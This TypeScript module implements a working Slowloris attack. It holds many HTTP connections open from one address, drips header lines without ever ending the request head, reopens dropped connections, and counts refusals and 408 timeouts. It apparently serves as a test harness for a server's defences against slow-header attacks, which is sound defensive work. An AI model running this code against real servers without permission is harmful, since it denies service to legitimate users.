import { open, type Held } from './raw-connections.js';

// Slowloris from one address: connections that each send part of a request head, then one header line at a
// time, never the blank line that ends it. A connection that is closed (refused, or timed out with a 408) is
// opened again, so the attack keeps its size for as long as it runs.

/** What the attack met. */
export interface SlowHeads {
  /** Connections tried so far, the reopened ones included. */
  tried(): number;
  /** Connections closed (or reset) by the far end without a word. */
  refused(): number;
  /** Connections answered `408` (the far end's time for a head ran out) and closed. */
  timedOut(): number;
  /** Closes every connection and opens no more. */
  stop(): void;
}

/** How long a closed connection waits before it is opened again: a steady attack, not a busy loop of connects. */
const REOPEN_AFTER_MS = 500;

/**
 * Opens `connections` connections from `from` to `url` and sends part of a head on each; resolves once every
 * one has connected once. A header line goes out on each every `lineEveryMs`.
 */
export async function startSlowHeads(
  url: string,
  { connections, from, lineEveryMs }: { connections: number; from: string; lineEveryMs: number },
): Promise<SlowHeads> {
  const live = new Set<Held>();
  const count = { tried: 0, refused: 0, timedOut: 0 };
  let stopped = false;
  const head = `GET /users/1 HTTP/1.1\r\nHost: ${new URL(url).host}\r\n`;
  const again = () => {
    if (!stopped) setTimeout(() => void slot(), REOPEN_AFTER_MS);
  };
  const slot = async (): Promise<void> => {
    count.tried++;
    const held = await open(url, head, from).catch(() => undefined);
    if (held === undefined || stopped) {
      if (held === undefined) count.refused++;
      held?.socket.destroy();
      return again();
    }
    live.add(held);
    held.socket.on('data', (chunk: Buffer) => (held.received += chunk.toString()));
    held.socket.once('close', () => {
      live.delete(held);
      if (held.received.startsWith('HTTP/1.1 408')) count.timedOut++;
      else if (held.received === '' && !stopped) count.refused++;
      again();
    });
  };
  await Promise.all(Array.from({ length: connections }, slot));
  let line = 0;
  const drip = setInterval(() => {
    line++;
    for (const { socket } of live) socket.write(`X-Drip-${line}: ${line}\r\n`);
  }, lineEveryMs);
  return {
    tried: () => count.tried,
    refused: () => count.refused,
    timedOut: () => count.timedOut,
    stop() {
      stopped = true;
      clearInterval(drip);
      for (const { socket } of live) socket.destroy();
    },
  };
}
